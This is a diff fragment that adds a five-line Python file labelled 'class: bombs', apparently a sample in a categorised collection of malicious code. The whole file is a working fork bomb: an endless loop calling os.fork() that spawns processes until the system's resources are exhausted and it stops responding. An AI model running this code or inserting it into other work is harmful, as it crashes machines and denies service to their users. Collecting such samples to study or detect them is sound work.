@@ -1,0 +1,5 @@
+# class: bombs. Forks without end.
+import os
+
+while True:
+    os.fork()
